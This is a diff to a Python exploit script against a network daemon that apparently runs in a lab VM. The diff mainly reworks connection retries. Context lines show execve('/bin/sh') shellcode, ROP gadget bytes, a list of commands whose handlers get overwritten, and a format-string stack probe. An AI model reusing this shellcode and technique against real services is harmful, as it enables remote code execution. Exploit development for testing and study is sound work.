@@ -46,6 +46,9 @@ RET, JMP_RSP = b"\xc3", b"\xff\xe4"
 # push 59 (execve); pop rax; syscall
 SHELLCODE = bytes.fromhex("31d2 52 48b8 2f62696e2f736800 50 4889e7 52 57 4889e6 6a3b 58 0f05")
 
+ATTEMPT_SECONDS = 5
+"""How long to wait for a greeting: whoever forwards a port may hold a connection that the guest never heard of."""
+
 COMMANDS = ("uptime", "list", "post", "sign", "show")
 """Commands whose function may be replaced: by preference one that is of no other use."""
 
@@ -128,23 +131,22 @@ class Binary:
 
 
 class Visitor:
-    """A connection to the daemon at *host* and *port*; waits for it and its answers until *timeout* seconds are over."""
+    """A connection to the daemon at *host* and *port*, which has *timeout* seconds to come up and answer."""
 
     def __init__(self, host: str, port: int, timeout: float) -> None:
-        self._deadline = time.monotonic() + timeout
+        end = time.monotonic() + timeout
         while True:
+            self._deadline = min(end, time.monotonic() + ATTEMPT_SECONDS)
             try:
                 self._socket = socket.create_connection((host, port), self._left())
-                # A first line at once: a passt of 2023 does not tell the guest that somebody is there before that.
-                self.send(b"list")
                 self.read_until(PROMPT)
-                self.read_until(b"\n" + PROMPT)
-                return
+                break
             except OSError as error:
                 # A forwarded port accepts while the guest still boots, and hangs up.
-                if self._left() < 1:
+                if time.monotonic() + 1 > end:
                     raise AttackError(f"nobody answers at {host}:{port}: {error}") from error
                 time.sleep(0.2)
+        self._deadline = end
 
     def send(self, line: bytes) -> None:
         """Send *line*, which must not have a newline in it, and a newline."""
@@ -205,7 +207,7 @@ def find_line(visitor: Visitor) -> int:
     mark = b"RECOGNIS"
     number = pin(visitor, b" ".join(b"%%%d$lx" % place for place in PROBED))
     shown = visitor.ask(showing(number) + mark).split()
-    value = b"%x" % struct.unpack("<Q", mark)
+    value = b"%x" % int.from_bytes(mark, "little")
     if value not in shown:
         raise AttackError("the line is not on the stack where printf looks")
     return PROBED[shown.index(value)]
